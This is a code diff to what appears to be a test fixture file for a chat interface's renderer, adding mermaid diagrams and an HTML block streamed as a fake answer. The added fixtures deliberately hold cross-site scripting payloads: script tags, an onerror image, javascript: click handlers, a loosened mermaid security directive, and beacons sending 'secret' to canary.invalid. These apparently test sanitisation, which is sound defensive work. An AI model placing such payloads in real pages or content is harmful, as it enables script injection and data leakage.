@@ -38,6 +38,39 @@ const HOSTILE = `Before <script>window.__pwned = 1</script> after
 $\\href{javascript:window.__pwned=7}{x}$ $\\htmlData{onclick=window.__pwned=8}{y}$
 `;
 
+const FIGURES = `A plan:
+
+\`\`\`mermaid
+flowchart LR
+  A[Order 订单] --> B{In stock?}
+  B -- yes --> C[Ship]
+  B -- no --> D[Buy]
+\`\`\`
+
+A page:
+
+\`\`\`html
+<h1 style="color:teal">Price list</h1><script>parent.__pwned = 1; document.title = "run"</script>
+<img src="https://canary.invalid/p.png?d=secret"><a href="https://canary.invalid/q" target="_top">out</a>
+\`\`\`
+
+Not a diagram:
+
+\`\`\`mermaid
+flowchart of nothing at all ((
+\`\`\`
+
+A trap:
+
+\`\`\`mermaid
+%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* { background: url(https://canary.invalid/r) }"}}%%
+flowchart TD
+  X["<img src=https://canary.invalid/s onerror=window.__pwned=2>"] --> Y
+  click X "javascript:window.__pwned=3"
+  click Y call window.alert()
+\`\`\`
+`;
+
 const CLOCK = { id: "call_1", name: "clock", arguments: '{"zone":"UTC"}' };
 const WEATHER = { id: "call_2", name: "weather", arguments: '{"city":"北京 👩‍💻","days":[1,2.50]}' };
 
@@ -68,6 +101,7 @@ const ANSWERS = {
     gap: 5,
   }),
   "fake-markdown": () => ({ pieces: MARKDOWN.match(/[\s\S]{1,9}/g), gap: 8 }),
+  "fake-figures": () => ({ pieces: FIGURES.match(/[\s\S]{1,11}/g) }),
   "fake-hostile": () => ({ pieces: HOSTILE.match(/[\s\S]{1,11}/g) }),
   "fake-vision": ({ messages }) => ({
     pieces: messages
